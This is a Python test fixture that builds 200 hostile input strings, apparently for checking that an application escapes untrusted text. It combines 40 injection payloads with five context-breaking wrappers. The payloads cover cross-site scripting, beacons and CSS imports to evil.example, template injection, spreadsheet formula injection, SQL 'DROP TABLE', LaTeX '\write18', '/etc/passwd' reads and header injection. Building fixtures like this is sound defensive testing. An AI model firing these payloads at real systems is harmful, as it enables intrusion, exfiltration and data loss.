"""Two hundred strings that would do something if treated as more than text."""

from __future__ import annotations

_PAYLOADS = (
    "<script>window.hit=1</script>", "<img src=x onerror=window.hit=1>", "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>", "<iframe src=javascript:window.hit=1>",
    "<body onload=window.hit=1>",
    "<a href=javascript:window.hit=1>x</a>", "<details open ontoggle=window.hit=1>",
    "<math><mtext><script>window.hit=1</script>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<img src=https://evil.example/p.png>", "![x](https://evil.example/p.png)",
    "[x](javascript:window.hit=1)",
    "<form action=https://evil.example><button>x</button></form>", "<object data=https://evil.example/x>",
    "<template><script>window.hit=1</script></template>", "<!--><script>window.hit=1</script>-->",
    "{{ 7*7 }} {{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${window.hit=1}", "#{window.hit=1}",
    "#eval(\"1\") #image(\"/etc/passwd\") #read(\"/etc/passwd\")",
    "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd", "\t=1+1",
    "'; DROP TABLE claims; --", "\" OR 1=1 --", "\\input{/etc/passwd} \\write18{id}",
    "%00<script>window.hit=1</script>",
    "\u202egnp.exe\u202c", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x00null",
    "a\r\nSet-Cookie: x=1",
    "<x hx-get=https://evil.example hx-trigger=load>", "javascript:window.hit=1//",
)  # fmt: skip
_FRAMES = ("{}", "\"'>{}", "</textarea></title></style>{}", "]]>{}", "word {} word")
HOSTILE = [frame.replace("{}", payload) for payload in _PAYLOADS for frame in _FRAMES]
assert len(HOSTILE) == 200
